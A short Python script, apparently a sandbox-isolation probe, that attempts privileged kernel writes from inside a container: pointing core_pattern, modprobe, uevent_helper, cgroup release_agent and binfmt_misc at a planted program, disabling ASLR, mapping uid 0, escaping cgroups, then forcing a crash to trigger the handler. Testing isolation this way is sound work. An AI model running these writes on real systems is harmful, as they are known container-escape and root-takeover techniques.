"""H1: write the kernel's own settings, press its emergency keys, leave it a program to run on a crash."""

import glob
import os

from attempt import attempt, done, put

SETTINGS = {
    "/proc/sys/kernel/core_pattern": b"|/work/owned",
    "/proc/sys/kernel/modprobe": b"/work/owned",
    "/proc/sys/kernel/hostname": b"owned",
    "/proc/sys/kernel/randomize_va_space": b"0",
    "/proc/sys/fs/binfmt_misc/register": b":owned:M::owned::/work/owned:",
    "/proc/sys/vm/overcommit_memory": b"1",
    "/proc/sys/vm/drop_caches": b"3",
    "/proc/sys/net/ipv4/ip_forward": b"1",
    "/proc/sys/user/max_user_namespaces": b"1000",
    "/proc/sysrq-trigger": b"h",
    "/proc/self/uid_map": b"0 0 1",
    "/proc/self/setgroups": b"allow",
    "/proc/1/uid_map": b"0 0 1",
    "/proc/irq/default_smp_affinity": b"1",
    "/proc/acpi/wakeup": b"x",
    "/proc/mtrr": b"x",
    "/sys/kernel/uevent_helper": b"/work/owned",
    "/sys/power/state": b"mem",
    "/sys/fs/cgroup/memory/release_agent": b"/work/owned",
    "/dev/kmsg": b"owned",
}
for path, value in SETTINGS.items():
    attempt(f"write {path}", lambda path=path, value=value: put(path, value))
attempt("escape its control group", lambda: [put(p, b"0") for p in glob.glob("/sys/fs/cgroup/*/cgroup.procs")] or None)
attempt("be spared when memory runs out", lambda: put("/proc/self/oom_score_adj", b"-1000"))
attempt("a real-time process", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99)) or True)
attempt("be first", lambda: os.setpriority(os.PRIO_PROCESS, 0, -20) or True)
attempt("messages of the kernel", lambda: os.open("/proc/kmsg", os.O_RDONLY))
if os.fork() == 0:  # a crash, for whatever handles crashes on this machine
    os.abort()
os.wait()
done()
